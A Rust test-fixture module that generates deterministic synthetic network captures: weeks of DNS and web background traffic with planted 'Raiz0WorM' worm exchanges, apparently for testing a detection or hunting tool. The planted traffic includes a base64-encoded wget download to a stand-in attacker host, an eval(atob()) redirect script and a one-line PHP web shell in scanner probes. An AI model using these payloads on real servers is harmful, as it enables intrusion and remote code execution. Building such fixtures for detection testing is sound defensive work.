//! Generated captures for end-to-end scenarios.
//!
//! [`raiz0worm`] recreates the hunt of `../shared/seed/` (a worm found by two metadata
//! filters): 60 days of background traffic (DNS lookups, ordinary web pages, scanners probing
//! with base64 payloads that get 404s) and, hidden in it, HTTP exchanges answered 200 whose URI
//! and body use base64 functions and carry a base64-encoded `Raiz0WorM` marker.

use types::Timestamp;

use crate::{udp_frame, Capture, Conversation, Ep};

/// Seconds in a day.
const DAY: u64 = 86_400;

/// One attack exchange the scenario planted.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Attack {
    /// Time of the request's first packet.
    pub ts: Timestamp,
    /// Attacker address.
    pub attacker: String,
    /// Victim (web server) address.
    pub victim: String,
}

/// What a scenario capture holds.
#[derive(Debug, Clone)]
pub struct Scenario {
    /// The frames.
    pub capture: Capture,
    /// The planted attacks, in time order.
    pub attacks: Vec<Attack>,
    /// DNS lookups in the background.
    pub dns_lookups: usize,
    /// Ordinary HTTP exchanges (status 200, no base64 functions).
    pub web_pages: usize,
    /// Scanner probes with base64 functions answered 404.
    pub probes: usize,
}

/// A tiny deterministic generator (xorshift), so captures are the same on every run.
#[derive(Debug)]
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        self.0
    }
    fn below(&mut self, n: u64) -> u64 {
        self.next() % n.max(1)
    }
}

/// Standard base64 (the test data must not depend on the code under test).
pub fn base64(data: &[u8]) -> String {
    const A: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut s = String::new();
    for c in data.chunks(3) {
        let b = [c[0], *c.get(1).unwrap_or(&0), *c.get(2).unwrap_or(&0)];
        let n = u32::from(b[0]) << 16 | u32::from(b[1]) << 8 | u32::from(b[2]);
        for i in 0..4 {
            if i <= c.len() {
                s.push(A[(n >> (18 - 6 * i) & 63) as usize] as char);
            } else {
                s.push('=');
            }
        }
    }
    s
}

fn dns_name(out: &mut Vec<u8>, name: &str) {
    for label in name.split('.') {
        out.push(label.len() as u8);
        out.extend_from_slice(label.as_bytes());
    }
    out.push(0);
}

/// A DNS query (`answer: None`) or response with one A record.
pub fn dns_message(id: u16, name: &str, answer: Option<[u8; 4]>) -> Vec<u8> {
    let mut m = Vec::new();
    m.extend_from_slice(&id.to_be_bytes());
    m.extend_from_slice(if answer.is_some() {
        &[0x81, 0x80]
    } else {
        &[0x01, 0x00]
    });
    m.extend_from_slice(&1u16.to_be_bytes());
    m.extend_from_slice(&u16::from(answer.is_some()).to_be_bytes());
    m.extend_from_slice(&[0, 0, 0, 0]);
    dns_name(&mut m, name);
    m.extend_from_slice(&[0, 1, 0, 1]);
    if let Some(a) = answer {
        m.extend_from_slice(&[0xc0, 0x0c, 0, 1, 0, 1, 0, 0, 0x0e, 0x10, 0, 4]);
        m.extend_from_slice(&a);
    }
    m
}

fn http_exchange(cap: &mut Capture, client: Ep, server: Ep, ts: Timestamp, req: &str, resp: &str) {
    let mut cv = Conversation::new(client, server, ts);
    cv.handshake(cap);
    cv.send(cap, true, req.as_bytes());
    cv.send(cap, false, resp.as_bytes());
    cv.close(cap);
}

fn response(status: &str, ctype: &str, body: &str) -> String {
    format!(
        "HTTP/1.1 {status}\r\nServer: nginx\r\nContent-Type: {ctype}\r\nContent-Length: {}\r\n\r\n{body}",
        body.len()
    )
}

/// The Raiz0WorM request and response: base64 functions in the URI and the body, and the
/// marker encoded in both.
fn worm_exchange(n: usize, host: &str) -> (String, String) {
    let cmd = base64(
        format!("Raiz0WorM stage {n}: wget -q http://198.51.100.7/r0 -O /tmp/.r0").as_bytes(),
    );
    let req = format!(
        "GET /cgi-bin/status.php?q=eval(base64_decode(%27{cmd}%27)) HTTP/1.1\r\nHost: {host}\r\nUser-Agent: Mozilla/5.0 (compatible; r0)\r\nAccept: */*\r\n\r\n"
    );
    let js = base64(b"Raiz0WorM says hello; document.location='http://198.51.100.7/'");
    let body = format!("<html><script>eval(atob(\"{js}\"));</script>ok</html>");
    (req, response("200 OK", "text/html", &body))
}

/// The scenario: `lookups` DNS exchanges (3 events each) and some web traffic over `days`
/// days from `start`, with `attacks` worm exchanges against `victims` web servers.
pub fn raiz0worm(
    start: Timestamp,
    days: u64,
    lookups: usize,
    attacks: usize,
    victims: &[[u8; 4]],
) -> Scenario {
    let mut rng = Rng(0x005e_ed0f_2a12_0e0e);
    let mut cap = Capture::default();
    let span = days * DAY;
    let resolver = Ep::v4([10, 0, 0, 53], 53);
    // Everything planned as (time, kind, index), then emitted in time order.
    let mut plan: Vec<(u64, u8, usize)> = Vec::new();
    for i in 0..lookups {
        plan.push((i as u64 * span / lookups.max(1) as u64, 0, i));
    }
    let pages = lookups / 100;
    for i in 0..pages {
        plan.push((rng.below(span), 1, i));
    }
    let probes = (lookups / 1000).max(5);
    for i in 0..probes {
        plan.push((rng.below(span), 2, i));
    }

    for i in 0..attacks {
        // Spread over the period, never in the first or last day.
        let t = DAY + (i as u64 * (span - 2 * DAY)) / attacks.max(1) as u64 + rng.below(3600);
        plan.push((t, 3, i));
    }
    plan.sort();
    let mut out = Vec::new();
    for (off, kind, i) in plan {
        let ts = Timestamp(start.0 + off * 1_000_000_000);
        let client_ip = [10, 0, (i % 200) as u8 + 1, (i % 250) as u8 + 2];
        let port = 20_000 + (i % 40_000) as u16;
        match kind {
            0 => {
                let c = Ep::v4(client_ip, port);
                let name = format!("host{}.corp{}.example", i % 997, i % 13);
                let id = (i % 65_000) as u16;
                cap.push(ts, udp_frame(&c, &resolver, &dns_message(id, &name, None)));
                let ans = [192, 0, 2, (i % 250) as u8 + 1];
                cap.push(
                    Timestamp(ts.0 + 2_000_000),
                    udp_frame(&resolver, &c, &dns_message(id, &name, Some(ans))),
                );
            }
            1 => {
                let server = Ep::v4([93, 184, 216, (i % 50) as u8 + 1], 80);
                let req = format!("GET /news/{i}.html?sid={} HTTP/1.1\r\nHost: news{}.example\r\nUser-Agent: Mozilla/5.0\r\n\r\n", base64(&rng.next().to_le_bytes()), i % 7);
                let resp = response("200 OK", "text/html", &format!("<html>article {i}</html>"));
                http_exchange(&mut cap, Ep::v4(client_ip, port), server, ts, &req, &resp);
            }
            2 => {
                let victim = victims[i % victims.len()];
                let payload = base64(b"<?php system($_GET[c]); ?>");
                let req = format!("GET /wp-admin/x.php?c=base64_decode({payload}) HTTP/1.1\r\nHost: {}.{}.{}.{}\r\nUser-Agent: zgrab/0.x\r\n\r\n", victim[0], victim[1], victim[2], victim[3]);
                let resp = response("404 Not Found", "text/html", "<html>not found</html>");
                http_exchange(
                    &mut cap,
                    Ep::v4([198, 18, 0, (i % 200) as u8 + 1], port),
                    Ep::v4(victim, 80),
                    ts,
                    &req,
                    &resp,
                );
            }
            _ => {
                let victim = victims[i % victims.len()];
                let attacker = if i % 2 == 0 {
                    [203, 0, 113, 66]
                } else {
                    [198, 51, 100, 23]
                };
                let host = format!("shop{}.corp.example", i % victims.len());
                let (req, resp) = worm_exchange(i, &host);
                http_exchange(
                    &mut cap,
                    Ep::v4(attacker, port),
                    Ep::v4(victim, 80),
                    ts,
                    &req,
                    &resp,
                );
                out.push(Attack {
                    ts,
                    attacker: format!(
                        "{}.{}.{}.{}",
                        attacker[0], attacker[1], attacker[2], attacker[3]
                    ),
                    victim: format!("{}.{}.{}.{}", victim[0], victim[1], victim[2], victim[3]),
                });
            }
        }
    }
    // Frames of overlapping exchanges interleave by time.
    cap.frames.sort_by_key(|(t, _)| *t);
    Scenario {
        capture: cap,
        attacks: out,
        dns_lookups: lookups,
        web_pages: pages,
        probes,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn base64_matches_the_rfc_examples() {
        assert_eq!(base64(b""), "");
        assert_eq!(base64(b"f"), "Zg==");
        assert_eq!(base64(b"fo"), "Zm8=");
        assert_eq!(base64(b"foobar"), "Zm9vYmFy");
        assert_eq!(base64(b"Raiz0WorM"), "UmFpejBXb3JN");
    }

    #[test]
    fn scenario_is_deterministic_and_ordered() {
        let s = raiz0worm(
            Timestamp::from_secs_nanos(1_750_000_000, 0),
            60,
            1000,
            6,
            &[[10, 1, 0, 10]],
        );
        let t = raiz0worm(
            Timestamp::from_secs_nanos(1_750_000_000, 0),
            60,
            1000,
            6,
            &[[10, 1, 0, 10]],
        );
        assert_eq!(s.capture.frames, t.capture.frames);
        assert_eq!(s.attacks.len(), 6);
        assert!(s.capture.frames.windows(2).all(|w| w[0].0 <= w[1].0));
    }
}
